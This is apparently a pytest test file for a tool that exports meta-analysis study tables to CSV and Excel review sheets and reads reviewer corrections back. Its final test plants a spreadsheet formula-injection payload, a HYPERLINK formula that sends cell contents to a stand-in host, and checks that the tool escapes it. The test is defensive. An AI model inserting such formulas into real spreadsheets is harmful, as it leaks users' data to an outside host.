"""A study table through a second reviewer's spreadsheet and back (CSV and Excel)."""

import openpyxl
import pandas as pd
import pytest

from evidextract import from_review, pre_post, to_review

CRYO = "10.1007/s00330-021-08477-6"
CEMENT = "10.1007/s00330-013-3071-z"


@pytest.fixture(scope="module")
def table(shared_dir):
    gold = pd.read_json(shared_dir / "eval" / "dev" / "gold.jsonl", lines=True)
    return pre_post(gold, outcome="NRS,VAS")  # 6 rows: 3 follow-ups of each study


def _edit_csv(path, edits):
    sheet = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for row, column, value in edits:
        sheet.loc[sheet["row"] == str(row), column] = value
    return sheet


def test_review_sheet_csv_puts_each_number_beside_its_source(table, tmp_path):
    path = to_review(table, tmp_path / "review.csv")
    header = path.read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    assert header[:2] == ["row", "study"]
    assert header[header.index("m1i"):header.index("m1i") + 3] == ["m1i", "m1i_text",
                                                                   "m1i_sentence"]
    assert header[-1] == "note"


def test_review_sheet_csv_round_trip_unchanged(table, tmp_path):
    path = to_review(table, tmp_path / "review.csv")
    back = from_review(path, original=table)
    pd.testing.assert_frame_equal(pd.DataFrame(back[list(table.columns)]), pd.DataFrame(table))
    assert (back["corrected"] == "").all() and back.attrs["removed"] == []


def test_review_sheet_csv_corrections_win_and_are_recorded(table, tmp_path):
    path = to_review(table, tmp_path / "review.csv")
    sheet = _edit_csv(path, [(4, "ni", "51"), (1, "sd1i", "2.7"), (1, "note", "checked PDF")])
    sheet = sheet[sheet["row"] != "5"]  # the reviewer excludes the 3-month row
    sheet.to_csv(path, index=False, encoding="utf-8-sig")
    back = from_review(path, original=table)
    assert list(back.index) == [0, 1, 2, 3, 4]
    assert back.attrs["removed"] == [5]
    assert back.loc[4, "ni"] == 51 and back.loc[4, "corrected"] == "ni"
    assert back.loc[4, "original_values"] == "ni: NA"
    assert back.loc[1, "sd1i"] == 2.7 and back.loc[1, "corrected"] == "sd1i"
    assert back.loc[1, "original_values"] == "sd1i: 2.6"
    assert back.loc[1, "note"] == "checked PDF"
    assert back.loc[0, "corrected"] == "" and back.loc[0, "sd1i"] == 2.4
    assert back["ni"].dtype == "Int64" and back["sd1i"].dtype == "float64"


def test_review_sheet_xlsx_round_trip_with_corrections(table, tmp_path):
    path = to_review(table, tmp_path / "review.xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book["studies"]
    header = [cell.value for cell in sheet[1]]
    assert header[:2] == ["row", "study"]
    row_of = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    assert sheet.cell(row=row_of[1], column=header.index("m1i_text") + 1).value == \
        "2.5 ± 2.6 (range, 0–9"
    sheet.cell(row=row_of[4], column=header.index("ni") + 1).value = 51
    sheet.cell(row=row_of[4], column=header.index("m2i") + 1).value = 8.2
    book.save(path)
    back = from_review(path, original=table)
    assert back.loc[4, "corrected"] == "m2i, ni"
    assert back.loc[4, "original_values"] == "m2i: 8.19; ni: NA"
    assert (back.loc[4, "ni"], back.loc[4, "m2i"]) == (51, 8.2)
    untouched = [c for c in table.columns]
    pd.testing.assert_frame_equal(pd.DataFrame(back.loc[[0, 1, 2, 3, 5], untouched]),
                                  pd.DataFrame(table.loc[[0, 1, 2, 3, 5]]))


def test_review_sheet_added_row_is_marked(table, tmp_path):
    path = to_review(table.iloc[:1], tmp_path / "review.csv")
    sheet = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    new = sheet.iloc[0].copy()
    new["row"], new["study"], new["ni"] = "", "Smith 2020", "40"
    pd.concat([sheet, new.to_frame().T]).to_csv(path, index=False, encoding="utf-8-sig")
    back = from_review(path, original=table.iloc[:1])
    assert list(back["corrected"]) == ["", "added"]
    assert back.iloc[1]["study"] == "Smith 2020" and back.iloc[1]["ni"] == 40


def test_review_sheet_refuses_unknown_format(table, tmp_path):
    with pytest.raises(ValueError, match="csv or .xlsx"):
        to_review(table, tmp_path / "review.ods")


def test_review_sheet_never_writes_a_formula(table, tmp_path):
    crafted = table.iloc[:1].copy()
    crafted.loc[0, "m1i_text"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    crafted.loc[0, "m2i_text"] = "-3.71 (95% CI -5.29 to -2.00"
    csv = to_review(crafted, tmp_path / "review.csv")
    lines = csv.read_text(encoding="utf-8-sig")
    assert ',"\'=HYPERLINK(' in lines and ",'-3.71 (95% CI" in lines
    xlsx = to_review(crafted, tmp_path / "review.xlsx")
    cells = {c.value: c.data_type for row in openpyxl.load_workbook(xlsx)["studies"].iter_rows()
             for c in row}
    assert cells[crafted.loc[0, "m1i_text"]] == "s"
    for path in (csv, xlsx):
        back = from_review(path, original=crafted)
        assert back.loc[0, "m1i_text"] == crafted.loc[0, "m1i_text"]
        assert back.loc[0, "m2i_text"] == "-3.71 (95% CI -5.29 to -2.00"
        assert back.loc[0, "corrected"] == ""
